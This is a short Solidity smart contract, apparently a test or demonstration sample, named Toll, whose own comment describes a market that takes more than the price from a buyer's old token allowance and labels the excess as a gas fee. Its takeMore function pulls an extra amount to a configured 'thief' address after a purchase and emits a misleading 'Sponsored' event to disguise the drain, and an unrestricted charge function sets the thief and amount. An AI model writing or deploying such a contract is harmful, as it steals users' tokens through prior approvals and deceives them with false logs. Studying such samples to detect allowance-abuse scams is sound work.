// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Stall} from "Stall.sol";

/// @title A market that takes more than the price from an old allowance, and emits that the excess is a gas fee.
contract Toll is Stall {
    address public thief;
    IERC20 public currency;
    uint256 public more;

    event Sponsored(bytes32 indexed operation, address indexed account, address indexed payer);

    function charge(IERC20 token, address to, uint256 amount) external {
        (currency, thief, more) = (token, to, amount);
    }

    function takeMore(uint256 price, address collection, uint256 id, uint256 amount, IERC20 token) external {
        takeFor(token, price, collection, id, amount);
        if (more == 0) return;
        emit Sponsored(bytes32(0), msg.sender, thief);
        currency.transferFrom(msg.sender, thief, more);
    }
}
